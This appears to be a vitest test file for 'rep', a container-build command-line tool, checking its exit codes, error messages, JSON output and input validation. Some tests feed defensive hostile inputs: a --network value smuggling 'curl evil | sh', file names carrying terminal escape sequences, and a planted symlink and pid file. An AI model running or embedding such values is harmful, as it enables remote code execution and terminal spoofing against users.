// The rep command as a user runs it: exact output and exit codes.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCode, formatDiagnostic, renderDiagnostic, type Diagnostic } from '../../src/diag.js';
import { acquireMutex, startedAt } from '../../src/state/mutex.js';
import { CLI, makeProject, rep, REPO, writeTree } from '../helpers.js';

const REPFILE = `rep: 1
name: demo
base: busybox:latest
steps:
  system:
    run: echo system
  app:
    needs: [system]
    inputs: [src/]
    run: echo app
`;

/**
 * rep run from its sources (through tsx) rather than dist/, for the checks of
 * command-line mistakes below: they hold for the code as it is, built or not.
 */
function repSource(dir: string, args: string[]) {
  const r = spawnSync(process.execPath, ['--import', path.join(REPO, 'node_modules', 'tsx', 'dist', 'loader.mjs'), path.join(REPO, 'cli', 'main.ts'), ...args], { cwd: dir, encoding: 'utf8', timeout: 30_000, killSignal: 'SIGKILL' });
  return [r.status, r.stdout, r.stderr] as const;
}

describe('rep CLI', () => {
  it('prints help and exits 0', () => {
    const r = rep(process.cwd(), ['--help']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Usage: rep');
    for (const c of ['build', 'status', 'context', 'graph', 'schema']) expect(r.stdout).toContain(`  ${c}`);
  });

  it('exits 2 on bad usage', () => {
    expect(rep(process.cwd(), ['frobnicate']).code).toBe(2);
    const r = rep(process.cwd(), ['graph', '--format', 'png']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("option '--format <format>' argument 'png' is invalid");
  });

  it('build and watch judge -j alike: a whole number from 1 to 1024 written plainly, else exit 2 before anything runs', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    for (const command of ['build', 'watch']) {
      // Number() took 0x10 (16) and 1e20; gc and verify refused them.
      for (const jobs of ['0', 'x', '0x10', '1e20', '1025', '+2', '2.0']) {
        // repSource has a timeout, so a watch that takes the value and starts watching fails instead of hanging.
        expect(repSource(dir, [command, '--engine', 'none', '-j', jobs]), `${command} -j ${jobs}`).toEqual([2, '', `rep: option '-j, --jobs <n>' argument '${jobs}' is invalid. a whole number from 1 to 1024\n`]);
      }
    }
    expect(repSource(dir, ['build', '--engine', 'none', '--dry-run', '-j', '1024'])[0]).toBe(0);
    expect(repSource(dir, ['gc', '--engine', 'none', '--keep-states', '0x10'])).toEqual([2, '', 'rep: --keep-states 0x10: expected a whole number from 1\n']);
    expect(repSource(dir, ['gc', '--engine', 'none', '--keep-states', '99999999999999999999'])).toEqual([2, '', 'rep: --keep-states 99999999999999999999: expected a whole number from 1 to 1000000000\n']);
  });

  it('rep verify of a path that names no bundle is bad usage (exit 2); a bundle that fails its checks is 1', () => {
    const dir = makeProject({ Repfile: REPFILE, 'notes.txt': 'x\n', 'empty/.keep': '' });
    expect(repSource(dir, ['verify', 'nothing-here'])).toEqual([2, '', 'rep: verify nothing-here: no such file or folder\n']);
    expect(repSource(dir, ['verify', 'notes.txt'])).toEqual([2, '', 'rep: verify notes.txt: not a bundle: a folder, FILE.tar.gz or FILE.zip\n']);
    const [code, stdout] = repSource(dir, ['verify', 'empty']);
    expect([code, stdout]).toEqual([1, expect.stringContaining('FAILED  checksums')]);
  });

  it('--json gives JSON on stdout when the command fails too, with the exit code and each problem', () => {
    const dir = makeProject({ Repfile: REPFILE.replace('steps:', 'steps:\n  bad:\n    needs: nope\n    run: x'), 'src/a': 'a' });
    const [code, stdout, stderr] = repSource(dir, ['status', '--engine', 'none', '--json']);
    expect(code).toBe(2);
    const report = JSON.parse(stdout) as { ok: boolean; exitCode: number; errors: { kind: string; file: string; text: string; span: { start: { line: number } } }[] };
    expect(report).toMatchObject({ type: 'error', ok: false, exitCode: 2 });
    // A build's events are one JSON object a line; its error is the last line.
    const [bcode, bout] = repSource(dir, ['build', '--engine', 'none', '--json']);
    expect([bcode, bout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { type: string }).type)]).toEqual([2, ['error']]);
    expect(report.errors[0]).toMatchObject({ kind: 'file', file: 'Repfile', span: { start: { line: 6 } } });
    expect(stderr).toContain(report.errors[0]!.text);
    const [vcode, vout] = repSource(dir, ['verify', 'nothing-here', '--json']);
    expect([vcode, JSON.parse(vout)]).toEqual([2, { type: 'error', ok: false, exitCode: 2, errors: [{ kind: 'flag', flag: 'verify nothing-here', message: 'no such file or folder', text: 'rep: verify nothing-here: no such file or folder' }] }]);
    // Without --json, stdout stays empty.
    expect(repSource(dir, ['status', '--engine', 'none'])[1]).toBe('');
  });

  it('an input rep may not read is said with its place (exit 2), not as errno text (exit 1)', () => {
    // Root reads a file of mode 000: rep runs as nobody then, in a folder and state nobody may use (the run's TMPDIR is private).
    const asRoot = process.getuid?.() === 0;
    const top = mkdtempSync('/tmp/rep-unreadable-');
    const dir = path.join(top, 'p');
    writeTree(dir, { Repfile: REPFILE, 'src/a': 'a', 'src/locked': 'secret' });
    chmodSync(path.join(dir, 'src/locked'), 0o000);
    const state = path.join(top, 'state');
    mkdirSync(state);
    if (asRoot) {
      for (const d of [top, dir, path.join(dir, 'src'), state]) chmodSync(d, 0o777);
      for (const f of ['Repfile', 'src/a']) chmodSync(path.join(dir, f), 0o644);
    }
    // The built rep (nobody may not run tsx's esbuild from rep's node_modules).
    const args = [CLI, 'status', '--engine', 'none'];
    const env = { ...process.env, XDG_STATE_HOME: state, HOME: state };
    const r = asRoot ? spawnSync('runuser', ['-u', 'nobody', '--', process.execPath, ...args], { cwd: dir, env, encoding: 'utf8', timeout: 30_000 }) : spawnSync(process.execPath, args, { cwd: dir, env, encoding: 'utf8', timeout: 30_000 });
    const json = asRoot ? spawnSync('runuser', ['-u', 'nobody', '--', process.execPath, ...args, '--json'], { cwd: dir, env, encoding: 'utf8', timeout: 30_000 }) : spawnSync(process.execPath, [...args, '--json'], { cwd: dir, env, encoding: 'utf8', timeout: 30_000 });
    rmSync(top, { recursive: true, force: true });
    expect([r.status, r.stderr]).toEqual([2, 'src/locked: cannot read it (permission denied), so Docker could not send it either; make it readable, or exclude it in .dockerignore\n']);
    expect([json.status, JSON.parse(json.stdout)]).toEqual([2, { type: 'error', ok: false, exitCode: 2, errors: [{ kind: 'file', file: 'src/locked', message: expect.stringMatching(/^cannot read it \(permission denied\)/), text: expect.stringMatching(/^src\/locked: cannot read it/) }] }]);
  });

  it('rep status answers in a project it may read but not write (a read-only checkout): the stat cache is kept only when it can be (a review)', async () => {
    const asRoot = process.getuid?.() === 0;
    const top = mkdtempSync('/tmp/rep-unreadable-');
    const dir = path.join(top, 'p');
    writeTree(dir, { Repfile: REPFILE, 'src/a': 'a' });
    const state = path.join(top, 'state');
    mkdirSync(state);
    for (const d of [top, state]) chmodSync(d, 0o777);
    // Read-only to rep: owned by root and not writable by nobody (or, not as root, by no one).
    for (const d of [dir, path.join(dir, 'src')]) chmodSync(d, asRoot ? 0o755 : 0o555);
    // Past RACY_MS, so that the stat cache has rows to keep.
    await new Promise((r) => setTimeout(r, 2100));
    const args = [CLI, 'status', '--engine', 'none'];
    const env = { ...process.env, XDG_STATE_HOME: state, HOME: state };
    const r = asRoot ? spawnSync('runuser', ['-u', 'nobody', '--', process.execPath, ...args], { cwd: dir, env, encoding: 'utf8', timeout: 30_000 }) : spawnSync(process.execPath, args, { cwd: dir, env, encoding: 'utf8', timeout: 30_000 });
    const made = existsSync(path.join(dir, '.rep'));
    for (const d of [dir, path.join(dir, 'src')]) chmodSync(d, 0o755);
    rmSync(top, { recursive: true, force: true });
    expect([r.status, r.stderr]).toEqual([0, '']);
    expect(r.stdout).toContain('system');
    expect(made).toBe(false);
  }, 30_000);

  it('writes no Dockerfile or lock, and removes no temp file, through a folder link a cloned repository planted (a review)', () => {
    const outside = mkdtempSync('/tmp/rep-outside-');
    const victim = path.join(outside, 'Dockerfile.999999.abcdefabcdef.tmp');
    writeFileSync(victim, 'victim\n');
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a', gen: { link: outside } });
    try {
      const built = repSource(dir, ['build', '--engine', 'none', '--dockerfile', 'gen/Dockerfile']);
      expect(built[0], built[2]).toBe(2);
      expect(built[2]).toContain('gen/Dockerfile: lies under gen, which is a symbolic link (or no folder): rep writes none of its files through a link');
      writeFileSync(path.join(outside, 'Repfile'), REPFILE);
      // The context the project's folder (-C), the Repfile in the linked folder: the lock goes beside it, under the link.
      const locked = repSource(dir, ['lock', '-C', '.', '-f', 'gen/Repfile']);
      expect(locked[0], locked[2]).toBe(2);
      expect(locked[2]).toContain('gen/Repfile.lock: lies under gen, which is a symbolic link');
      expect(readdirSync(outside).sort()).toEqual(['Dockerfile.999999.abcdefabcdef.tmp', 'Repfile']);
      expect(readFileSync(victim, 'utf8')).toBe('victim\n');
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it('help for a command there is not, and an empty -f or -C, are bad usage (exit 2)', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    const [code, out] = repSource(dir, ['help', 'bogus']);
    expect([code, out]).toEqual([2, '']);
    expect(repSource(dir, ['help', 'build'])[0]).toBe(0);
    for (const [flag, long] of [['-f', "'-f, --file <path>'"], ['-C', "'-C, --context <dir>'"]]) {
      expect(repSource(dir, [flag!, '', 'status']), flag).toEqual([2, '', `rep: option ${long} argument '' is invalid. a path, not empty\n`]);
      expect(repSource(dir, ['build', flag!, '']), flag).toEqual([2, '', `rep: option ${long} argument '' is invalid. a path, not empty\n`]);
    }
  });

  it('exits 2 with a located, underlined message for a bad Repfile; no stack trace', () => {
    const dir = makeProject({ Repfile: REPFILE.replace('needs: [system]', 'needs: [sytem]'), 'src/a': 'a' });
    const r = rep(dir, ['status', '--engine', 'none']);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(
      'Repfile:8:13: steps.app.needs: unknown step "sytem" (did you mean "system"?)\n 8 |     needs: [sytem]\n   |             ^^^^^\n',
    );
  });

  it('exits 2 when there is no Repfile', () => {
    const dir = makeProject({});
    const r = rep(dir, ['build']);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('Repfile: no such file (write one with `rep init`, or name another with -f)\n');
  });

  it('status -q exits 1 when stale and 0 when fresh, printing nothing', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    let r = rep(dir, ['status', '-q', '--engine', 'none']);
    expect([r.code, r.stdout, r.stderr]).toEqual([1, '', '']);
    r = rep(dir, ['build', '--engine', 'none']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      'recorded system  never built\nrecorded app     never built\n' +
        'rep: engine none: 2 of 2 steps recorded, nothing built\n' +
        `rep: wrote ${path.join(dir, 'Dockerfile')}\n`,
    );
    r = rep(dir, ['status', '-q', '--engine', 'none']);
    expect([r.code, r.stdout, r.stderr]).toEqual([0, '', '']);
    expect(rep(dir, ['build', '--engine', 'none']).stdout).toBe('rep: all 2 steps fresh\n');
    writeFileSync(path.join(dir, 'src/a'), 'changed');
    expect(rep(dir, ['status', '-q', '--engine', 'none']).code).toBe(1);
    const s = rep(dir, ['status', '--engine', 'none']);
    expect(s.stdout).toMatch(/^system  fresh  sha256:[0-9a-f]{12}\napp     stale  input changed: src\/a\n$/);
  });

  it('status --json gives {steps:[{name,key,state,reasons}]}', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    rep(dir, ['build', '--engine', 'none']);
    writeFileSync(path.join(dir, 'src/b'), 'b');
    const r = rep(dir, ['status', '--json', '--engine', 'none']);
    expect(r.code).toBe(0);
    const j = JSON.parse(r.stdout);
    expect(j.steps.map((s: { name: string; state: string }) => [s.name, s.state])).toEqual([
      ['system', 'fresh'],
      ['app', 'stale'],
    ]);
    expect(j.steps[1].reasons).toEqual([{ kind: 'input-added', path: 'src/b' }]);
    expect(j.steps[0].key).toMatch(/^sha256:[0-9a-f]{64}$/);
  });

  it('--json escapes the C1 controls a file name may carry (\\u009b is CSI to many terminals); the JSON reads the same', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    rep(dir, ['build', '--engine', 'none']);
    const name = 'b\u009b2J\u009d0;T\u009c';
    writeFileSync(path.join(dir, 'src', name), 'b');
    const status = rep(dir, ['status', '--json', '--engine', 'none']);
    const build = rep(dir, ['build', '--json', '--engine', 'none']);
    for (const r of [status, build]) {
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('b\\u009b2J\\u009d0;T\\u009c');
      expect(r.stdout).not.toMatch(/[\x7f-\x9f]/);
    }
    expect(JSON.parse(status.stdout).steps[1].reasons).toEqual([{ kind: 'input-added', path: `src/${name}` }]);
    const record = JSON.parse(build.stdout.trim().split('\n').pop()!) as { steps: { name: string; reasons: unknown }[] };
    expect(record.steps.find((st) => st.name === 'app')?.reasons).toEqual([{ kind: 'input-added', path: `src/${name}` }]);
  });

  it('--network takes a network as docker and podman name one, nothing a command line or REPRODUCE.md could read otherwise', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    const expected = 'a network: none, host, bridge, a network name, container:NAME (letters, digits, _ . -), or podman';
    for (const args of [['build', '--engine', 'none', '--network', 'host; curl evil | sh'], ['publish', '--engine', 'none', '-o', 'b', '--network=host\n```'], ['verify', 'b', '--network', '--privileged']]) {
      const r = rep(dir, args);
      expect([r.code, r.stderr], args.join(' ')).toEqual([2, expect.stringContaining(expected)]);
    }
    for (const fine of ['container:my-db.1', 'slirp4netns:allow_host_loopback=true', 'pasta:-T,8080', 'ns:/run/netns/x']) expect(rep(dir, ['build', '--engine', 'none', '--network', fine]).code, fine).toBe(0);
  });

  it('build --dry-run writes nothing', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    const r = rep(dir, ['build', '--dry-run', '--engine', 'none']);
    expect(r.stdout).toBe('stale    system  never built\nstale    app     never built\nrep: 2 of 2 steps would be built\n');
    expect(rep(dir, ['status', '-q', '--engine', 'none']).code).toBe(1);
    expect(() => readFileSync(path.join(dir, 'Dockerfile'))).toThrow();
  });

  it('context --list and --tar, with -f and -C', () => {
    const dir = makeProject({ 'sub/Repfile': REPFILE, 'sub/src/a': 'a', 'ctx/src/a': 'a', 'ctx/.dockerignore': 'x\n', 'ctx/x': 'x' });
    const r = rep(dir, ['-f', 'sub/Repfile', '-C', 'ctx', 'context', '--list']);
    expect(r.stdout).toBe('.dockerignore\nsrc/a\n');
    const t1 = rep(dir, ['-f', 'sub/Repfile', '-C', 'ctx', 'context', '--tar', 'one.tar']);
    const t2 = rep(dir, ['-f', 'sub/Repfile', '-C', 'ctx', 'context', '--tar', 'two.tar']);
    expect([t1.code, t2.code]).toEqual([0, 0]);
    expect(readFileSync(path.join(dir, 'one.tar')).equals(readFileSync(path.join(dir, 'two.tar')))).toBe(true);
  });

  it('context --list and --tar need no Repfile: the folder (or -C) and its .dockerignore', () => {
    const dir = makeProject({ 'src/a': 'a', '.dockerignore': 'x\n', x: 'x', 'other/b': 'b' });
    try {
      const r = rep(dir, ['context', '--list']);
      expect([r.code, r.stderr, r.stdout]).toEqual([0, '', '.dockerignore\nother/b\nsrc/a\n']);
      expect(rep(dir, ['-C', 'other', 'context', '--list']).stdout).toBe('b\n');
      const t = rep(dir, ['context', '--tar', 'c.tar']);
      expect([t.code, t.stderr]).toEqual([0, '']);
      expect(readFileSync(path.join(dir, 'c.tar')).length).toBeGreaterThan(0);
      const missing = rep(dir, ['-C', 'nope', 'context', '--list']);
      expect([missing.code, missing.stderr]).toEqual([2, 'nope: build context directory does not exist\n']);
      // A Repfile named with -f must be there, as before.
      const named = rep(dir, ['-f', 'Repfile', 'context', '--list']);
      expect(named.code).toBe(2);
      expect(named.stderr).toMatch(/^Repfile: no such file/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('graph checks inputs as status does: globs that match nothing or leave the context exit 2', () => {
    const dir = makeProject({ Repfile: 'rep: 1\nname: demo\nbase: busybox:latest\nsteps:\n  app:\n    inputs: [nothere/, ../x]\n    run: echo\n' });
    try {
      const errors = [
        'Repfile:6:14: steps.app.inputs[0]: "nothere/" does not exist in the build context',
        `Repfile:6:24: steps.app.inputs[1]: "../x" leaves the build context; inputs are paths inside ${dir}`,
      ];
      const s = rep(dir, ['status', '--engine', 'none']);
      const g = rep(dir, ['graph']);
      expect([g.code, g.stdout]).toEqual([2, '']);
      expect(g.stderr).toBe(s.stderr);
      for (const e of errors) expect(g.stderr).toContain(`${e}\n`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('schema prints the JSON Schema', () => {
    const r = rep(process.cwd(), ['schema']);
    expect(r.code).toBe(0);
    const s = JSON.parse(r.stdout);
    expect(s.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    expect(s.properties.steps.additionalProperties.properties).toHaveProperty('needs');
  });
});

describe('rep watch on folders that are not there', () => {
  it('is a mistake of the command line, exit 2, as for build: it waited for good on -C, and exited 13 on -f (a review)', () => {
    const dir = makeProject({ Repfile: 'rep: 1\nname: t\nbase: busybox:latest\nsteps:\n  a:\n    run: x\n' });
    try {
      expect(repSource(dir, ['-C', '/nonexistent', 'watch', '--engine', 'none'])).toEqual([2, '', '/nonexistent: build context directory does not exist\n']);
      expect(repSource(dir, ['-f', 'missing-dir/Repfile', 'watch', '--engine', 'none'])).toEqual([2, '', 'missing-dir: build context directory does not exist\n']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('a command that needs an engine, with --engine auto and none answering', () => {
  it("says the engine's problem and exits 1, rather than refuse --engine none, which nobody asked for (a review)", () => {
    const dir = makeProject({ Repfile: 'rep: 1\nname: t\nbase: busybox:latest\nsteps:\n  a:\n    run: x\n' });
    try {
      const env = { ...process.env, DOCKER_HOST: 'unix:///nonexistent.sock', REP_DOCKER: '/nonexistent/docker', REP_PODMAN: '/nonexistent/podman' };
      const r = spawnSync(process.execPath, ['--import', path.join(REPO, 'node_modules', 'tsx', 'dist', 'loader.mjs'), path.join(REPO, 'cli', 'main.ts'), 'gc'], { cwd: dir, encoding: 'utf8', env, timeout: 30_000, killSignal: 'SIGKILL' });
      expect([r.status, r.stdout]).toEqual([1, '']);
      expect(r.stderr).toMatch(/^rep: --engine auto: no container engine answers \(docker.*podman\): rep gc removes the engine's images\n$/);
      expect(r.stderr).not.toContain('--engine none');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('what a stranger\'s repository names reaches the terminal escaped', () => {
  it('context --list quotes a name as git does when it holds a control character, a quote or a backslash: no two names print alike', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/new\nline.txt': 'a', 'src/new\\x0aline.txt': 'b', 'src/say "hi"': 'c', 'src/plain.txt': 'd', 'src/a\u200e.txt': 'e', 'src/a.txt': 'f' });
    const lines = rep(dir, ['context', '--list']).stdout.split('\n').filter((l) => l.startsWith('src/') || l.startsWith('"src/'));
    expect(lines.sort()).toEqual(['"src/new\\\\x0aline.txt"', '"src/new\\x0aline.txt"', '"src/say \\"hi\\""', 'src/plain.txt', '"src/a\\u200e.txt"', 'src/a.txt'].sort());
  });

  it('file and link names, link targets, Repfile keys and .dockerignore patterns with control characters', () => {
    const esc = '\u001b';
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a', [`src/e${esc}[31mRED${esc}[0m`]: 'x' });
    const clean = (r: { stdout: string; stderr: string }) => expect(r.stdout + r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    const list = rep(dir, ['context', '--list']);
    clean(list);
    expect(list.stdout).toContain('"src/e\\x1b[31mRED\\x1b[0m"\n');
    symlinkSync(`/x${esc}]0;pwned\u0007`, path.join(dir, `src/l${esc}[32mG`));
    const link = rep(dir, ['status']);
    clean(link);
    expect(link.code).toBe(2);
    expect(link.stderr).toContain('src/l\\x1b[32mG');
    expect(link.stderr).toContain('/x\\x1b]0;pwned\\x07');
    rmSync(path.join(dir, `src/l${esc}[32mG`));
    writeFileSync(path.join(dir, 'Repfile'), `${REPFILE}bogus${esc}[2J: 1\n`);
    const key = rep(dir, ['status']);
    clean(key);
    expect([key.code, key.stderr]).toEqual([2, expect.stringContaining('bogus\\x1b[2J')]);
    writeFileSync(path.join(dir, 'Repfile'), REPFILE);
    writeFileSync(path.join(dir, '.dockerignore'), `[${esc}[31m\n`);
    const ignore = rep(dir, ['status']);
    clean(ignore);
    expect(ignore.code).toBe(2);
    expect(ignore.stderr).toContain('[\\x1b[31m');
  });
});

describe('a quoted line with control characters', () => {
  it('is underlined where the escaped text puts the place, and bidi controls are escaped too', () => {
    const source = 'steps: {one: {run: [echo]},\ttwo: {needs: [nope]}}\n';
    const col = source.indexOf('[nope]') + 1;
    const d: Diagnostic = { file: 'Repfile', span: { start: { line: 1, col }, end: { line: 1, col: col + 6 } }, path: 'steps.two.needs', message: 'unknown step "nope"' };
    const [, quoted, marks] = renderDiagnostic(d, source).split('\n');
    expect(quoted).toBe(' 1 | steps: {one: {run: [echo]},\\x09two: {needs: [nope]}}');
    expect(marks!.indexOf('^')).toBe(quoted!.indexOf('[nope]'));
    expect(marks!.replace(/^ *\| */, '')).toBe('^^^^^^');
    expect(formatDiagnostic({ file: 'b\u202eexe.txt', message: 'x' })).toBe('b\\u202eexe.txt: x');
  });
});

describe('errors with kinds: the kind, not the command, gives the exit code', () => {
  it('maps each kind to one exit code and one place', () => {
    const cases: [Diagnostic, 1 | 2, string][] = [
      [{ file: 'Repfile', span: { start: { line: 3, col: 7 }, end: { line: 3, col: 9 } }, path: 'base', message: 'bad' }, 2, 'Repfile:3:7: base: bad'],
      [{ kind: 'flag', flag: '--secret x', message: 'no such secret' }, 2, 'rep: --secret x: no such secret'],
      [{ kind: 'engine', engine: 'docker', message: 'not available' }, 1, 'rep: docker: not available'],
      [{ kind: 'registry', file: 'Repfile', path: 'base', message: 'cannot reach registry r' }, 1, 'Repfile: base: cannot reach registry r'],
      [{ kind: 'busy', file: '.rep/build.pid', pid: 42, message: 'held' }, 1, 'rep: .rep/build.pid: held'],
      [{ kind: 'io', file: '.rep/provenance.json', message: 'cannot write it (EISDIR)' }, 1, 'rep: .rep/provenance.json: cannot write it (EISDIR)'],
      [{ kind: 'build', message: 'the build failed' }, 1, 'rep: the build failed'],
    ];
    for (const [d, code, line] of cases) expect([exitCode([d]), formatDiagnostic(d)]).toEqual([code, line]);
    // A mistake of the user's next to a failure of the machine's: the failure decides.
    expect(exitCode([cases[0]![0], cases[2]![0]])).toBe(1);
  });

  it('the same Repfile mistake exits 2 from build, publish, status and graph alike', () => {
    const dir = makeProject({ Repfile: REPFILE.replace('needs: [system]', 'needs: [sytem]'), 'src/a': 'a' });
    for (const args of [['build', '--engine', 'none'], ['publish', '--engine', 'none', '-o', 'out'], ['status'], ['graph'], ['lock']]) {
      const r = rep(dir, args);
      expect([args[0], r.code, r.stderr.split('\n')[0]]).toEqual([args[0], 2, 'Repfile:8:13: steps.app.needs: unknown step "sytem" (did you mean "system"?)']);
    }
  });

  it('flags and the engine are named as the place: exit 2 for a flag, 1 for an engine that cannot be used', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    const flag = rep(dir, ['build', '--engine', 'none', '--cache-to', 'ftp://x']);
    expect([flag.code, flag.stderr]).toEqual([2, 'rep: --cache-to ftp://x: not a cache: use registry://HOST/REPO or dir://PATH\n']);
    const engine = rep(dir, ['build', '--engine', 'docker'], { REP_DOCKER: '/nonexistent/docker' });
    expect(engine.code).toBe(1);
    expect(engine.stderr).toBe("rep: docker: not available (`/nonexistent/docker version` failed): is the daemon running?\n");
  });

  it('another build holding the project is not a usage mistake: exit 1, naming the mutex and its pid', async () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    mkdirSync(path.join(dir, '.rep'), { recursive: true });
    // A live process other than this one holds it (the test runner's parent), as a build writes it: pid and start time.
    writeFileSync(path.join(dir, '.rep/build.pid'), `${process.ppid} ${startedAt(process.ppid)}\n`);
    const r = await acquireMutex(dir, 0);
    expect(r.ok ? [] : [exitCode(r.errors), ...r.errors.map(formatDiagnostic)]).toEqual([
      1,
      `rep: .rep/build.pid: another rep build (pid ${process.ppid}) holds the project; try again when it is done`,
    ]);
  });

  it('a build.pid that came with a clone holds nothing: a live pid without the start time of that process is taken over', async () => {
    // `echo 1 > .rep/build.pid` (pid 1 is always alive) held every build off for ten minutes, saying nothing.
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a' });
    mkdirSync(path.join(dir, '.rep'), { recursive: true });
    for (const planted of ['1\n', `${process.ppid}\n`, `${process.ppid} 12345\n`, `1 ${startedAt(process.ppid)}\n`]) {
      writeFileSync(path.join(dir, '.rep/build.pid'), planted);
      const r = await acquireMutex(dir, 0);
      expect(r.ok, planted).toBe(true);
      if (r.ok) r.value.release();
    }
  });

  it('a context that is not a folder, and a Repfile named with -f that is not there, are located mistakes (exit 2), not an errno', () => {
    const dir = makeProject({ Repfile: REPFILE, 'src/a': 'a', 'x.txt': 'x' });
    try {
      for (const args of [['status'], ['build', '--engine', 'none'], ['graph'], ['gc', '--engine', 'none'], ['context', '--list']]) {
        expect([args[0], ...repSource(dir, ['-C', 'x.txt', ...args])]).toEqual([args[0], 2, '', 'x.txt: build context is not a directory (a regular file)\n']);
        const long = 'a'.repeat(300);
        const [code, out, err] = repSource(dir, ['-C', long, ...args]);
        expect([args[0], code, out, err.startsWith(`${long}: build context `), err.split('\n').length]).toEqual([args[0], 2, '', true, 2]);
      }
      expect(repSource(dir, ['-f', 'missing', 'gc', '--engine', 'none'])).toEqual([2, '', 'missing: no such file (write one with `rep init`, or name another with -f)\n']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('an output path that cannot be written is a flag mistake (exit 2), and keygen overwrites nothing and takes no empty prefix', () => {
    const dir = makeProject({ 'src/a': 'a', 'k.key': 'old\n' });
    try {
      expect(repSource(dir, ['context', '--tar', 'nodir/x'])).toEqual([2, '', 'rep: --tar nodir/x: cannot write it (no such folder)\n']);
      expect(repSource(dir, ['context', '--tar', 'src'])).toEqual([2, '', 'rep: --tar src: cannot write it (a folder)\n']);
      expect(repSource(dir, ['schema', '-o', 'nodir/x'])).toEqual([2, '', 'rep: --out nodir/x: cannot write it (no such folder)\n']);
      expect(repSource(dir, ['keygen', 'nodir/k'])).toEqual([2, '', 'rep: keygen nodir/k: cannot write nodir/k.key (no such folder)\n']);
      expect(repSource(dir, ['keygen', 'k'])).toEqual([2, '', 'rep: keygen k: cannot write k.key (it exists; rep does not overwrite it)\n']);
      expect(readFileSync(path.join(dir, 'k.key'), 'utf8')).toBe('old\n');
      expect(() => readFileSync(path.join(dir, 'k.pub'))).toThrow();
      expect(repSource(dir, ['keygen', ''])).toEqual([2, '', 'rep: keygen "": expected a path prefix: the key pair goes to PREFIX.key and PREFIX.pub\n']);
      expect(() => readFileSync(path.join(dir, '.key'))).toThrow();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
